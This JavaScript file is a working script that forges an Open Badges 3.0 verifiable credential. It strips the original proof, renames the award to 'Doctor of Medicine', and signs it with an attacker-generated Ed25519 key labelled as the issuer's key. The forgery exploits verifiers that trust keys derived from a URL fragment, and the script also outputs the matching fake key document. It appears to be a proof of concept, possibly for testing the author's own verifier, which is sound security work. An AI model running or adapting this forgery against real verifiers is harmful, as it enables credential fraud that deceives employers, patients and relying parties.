// A forgery in the name of one of our issuers, made with @digitalbazaar/vc: the credential
// of the file given, renamed, without its proof, signed (eddsa-rdfc-2022) by a fresh Ed25519
// key of the attacker's named `<issuer id>#z6Mk…` (its Multikey), the way a did:key-like
// reading of the fragment would accept. Prints {credential, keyDocument}: keyDocument is the
// Multikey document such a reading derives from the fragment (controller: the issuer id).
import fs from 'fs';
import * as vc from '@digitalbazaar/vc';
import * as Ed25519Multikey from '@digitalbazaar/ed25519-multikey';
import {DataIntegrityProof} from '@digitalbazaar/data-integrity';
import {cryptosuite} from '@digitalbazaar/eddsa-rdfc-2022-cryptosuite';
import {bundledContexts, staticLoader} from './loader.mjs';

const {proof, ...credential} = JSON.parse(fs.readFileSync(process.argv[2]));
credential.name = 'Doctor of Medicine';
const issuer = credential.issuer.id;
const key = await Ed25519Multikey.generate({controller: issuer});
key.id = `${issuer}#${key.publicKeyMultibase}`;
const suite = new DataIntegrityProof({signer: key.signer(), cryptosuite});
const forged = await vc.issue({credential, suite, documentLoader: staticLoader(bundledContexts())});
forged.proof = [forged.proof]; // as OB 3.0 issuers must (the schema wants an array)
const keyDocument = await key.export({publicKey: true, includeContext: true});
console.log(JSON.stringify({credential: forged, keyDocument}));
